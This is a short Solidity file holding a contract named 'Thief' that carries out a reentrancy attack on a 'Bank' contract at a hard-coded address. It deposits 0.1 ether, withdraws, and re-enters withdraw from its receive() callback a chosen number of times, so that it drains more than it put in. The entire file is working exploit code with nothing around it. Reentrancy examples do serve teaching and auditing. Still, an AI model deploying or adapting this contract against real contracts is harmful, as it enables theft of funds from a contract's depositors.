// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface Bank {
    function ethdeposit(address customer) external payable;
    function withdraw(uint256 amount) external;
}

/// A customer that withdraws again while it is being paid.
contract Thief {
    Bank private constant BANK = Bank(0x413744D59d31AFDC2889aeE602636177805Bd7b0);
    uint256 private constant AMOUNT = 0.1 ether;
    uint256 private left;

    constructor() payable {}

    /// Withdraws, and so many times again.
    function steal(uint256 again) external {
        BANK.ethdeposit{value: AMOUNT}(address(this));
        left = again;
        BANK.withdraw(AMOUNT);
    }

    receive() external payable {
        if (left == 0) return;
        left--;
        BANK.withdraw(AMOUNT);
    }
}
